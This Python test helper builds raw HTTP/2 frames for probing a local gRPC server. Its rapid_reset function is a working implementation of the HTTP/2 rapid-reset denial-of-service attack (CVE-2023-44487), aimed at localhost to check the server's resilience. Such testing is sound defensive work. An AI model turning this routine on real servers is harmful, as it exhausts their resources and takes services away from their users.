"""Raw HTTP/2 frames, for what a well-behaved gRPC client library never sends: rapid resets, bare SETTINGS reads."""

from __future__ import annotations

import socket

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM = 0x4, 0x1, 0x3
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(index: bytes, value: bytes) -> bytes:
    return index + bytes([len(value)]) + value  # HPACK literal without indexing, no Huffman


def grpc_headers(path: str, authority: str) -> bytes:
    """An HPACK block for a gRPC POST (static-table names, literal values, the dynamic table untouched)."""
    block = b"\x83\x86"  # :method POST, :scheme http
    block += _literal(b"\x04", path.encode()) + _literal(b"\x01", authority.encode())
    block += _literal(b"\x0f\x10", b"application/grpc")  # content-type (static index 31)
    return block + b"\x00\x02te\x08trailers"


def _read_exactly(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = connection.recv(size - len(data))
        if not chunk:
            raise ConnectionError("the server closed the connection")
        data += chunk
    return data


def server_settings(port: int) -> dict[int, int]:
    """The SETTINGS the server advertises on a new connection (identifier -> value)."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        header = _read_exactly(connection, 9)
        length, kind = int.from_bytes(header[:3], "big"), header[3]
        if kind != SETTINGS:
            raise ConnectionError(f"the server's first frame is of type {kind}, not SETTINGS")
        payload = _read_exactly(connection, length)
    return {
        int.from_bytes(payload[i : i + 2], "big"): int.from_bytes(payload[i + 2 : i + 6], "big")
        for i in range(0, length, 6)
    }


def rapid_reset(port: int, path: str, pairs: int) -> None:
    """Open `pairs` streams on one connection, each cancelled right after its HEADERS (CVE-2023-44487)."""
    block = grpc_headers(path, f"127.0.0.1:{port}")
    with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        batch: list[bytes] = []
        try:
            for number in range(pairs):
                stream = 2 * number + 1
                batch.append(frame(HEADERS, END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
                if len(batch) >= 1000:
                    connection.sendall(b"".join(batch))
                    batch.clear()
            connection.sendall(b"".join(batch))
        except OSError:
            pass  # the server may close an abusive connection: that is allowed
